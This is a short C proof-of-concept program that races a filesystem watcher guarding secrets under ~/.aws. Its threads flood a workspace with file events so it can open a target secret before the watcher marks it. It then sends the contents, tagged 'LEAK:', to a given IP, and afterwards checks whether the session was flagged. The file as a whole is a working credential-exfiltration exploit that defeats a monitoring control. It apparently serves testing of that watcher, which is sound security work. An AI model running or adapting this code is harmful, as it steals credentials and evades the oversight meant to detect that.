// beat IP TARGET FLOOD SECS: sends PRE; starts FLOOD threads creating and removing files
// in ./flood (the workspace: the same file system as the home, watched by the watcher
// with a filesystem mark, and every name may be a secret under "~/.aws/**"); says ready;
// spins on open(TARGET) (a kernel-decided open: no mark yet on a file created outside);
// once open, waits for a byte, reads and sends at once. Waits SECS, then tries one more
// send (shows whether the session was tainted meanwhile).
#define _GNU_SOURCE
#include <fcntl.h>
#include <errno.h>
#include <stdio.h>
#include <time.h>
#include <pthread.h>
#include <stdatomic.h>
#include <sys/stat.h>
#include "../../isolated-files-r4/send.c"
static atomic_int stop; static atomic_long made;
static double now(){struct timespec t; clock_gettime(CLOCK_MONOTONIC,&t); return t.tv_sec+t.tv_nsec/1e9;}
static void*flood(void*x){ long id=(long)x; char p[64]; long i=0;
  while(!atomic_load(&stop)){ snprintf(p,sizeof p,"flood/%ld-%ld",id,i++&1023); int f=open(p,O_CREAT|O_WRONLY|O_EXCL,0644); if(f>=0){close(f); atomic_fetch_add(&made,1);} unlink(p);} return 0; }
int main(int argc,char**argv){ setvbuf(stdout,0,_IONBF,0); const char*ip=argv[1],*tg=argv[2]; int nf=atoi(argv[3]);
  printf("PRE send: %d\n", send_buf(ip,"PRE-TAINT-CHANNEL-OK",20));
  mkdir("flood",0755); pthread_t th[64]; for(long i=0;i<nf;i++) pthread_create(&th[i],0,flood,(void*)i);
  close(open("ready",O_CREAT|O_WRONLY,0644)); double t0=now(); int fd=-1;
  while((fd=open(tg,O_RDONLY))<0 && now()-t0<30);
  if(fd<0){ printf("never opened: %s\n",strerror(errno)); return 1; }
  double t1=now(); char buf[256]={0}; ssize_t n=0;
  while((n=pread(fd,buf,255,0))==0 && now()-t1<5);
  double t2=now();
  char m[300]; int l=snprintf(m,sizeof m,"LEAK:%.*s",n>0?(int)n:0,buf); int s=send_buf(ip,m,l); double t3=now();
  atomic_store(&stop,1); for(int i=0;i<nf;i++) pthread_join(th[i],0);
  printf("opened %s; read %zd bytes %.3f ms after the open: %.60s\nSEND (%.3f ms after the read): %d; flood made %ld files\n",tg,n,(t2-t1)*1e3,buf,(t3-t2)*1e3,s,atomic_load(&made));
  sleep(atoi(argv[4])); printf("LATER send: %d\n",send_buf(ip,"LATER-SEND",10)); return 0; }
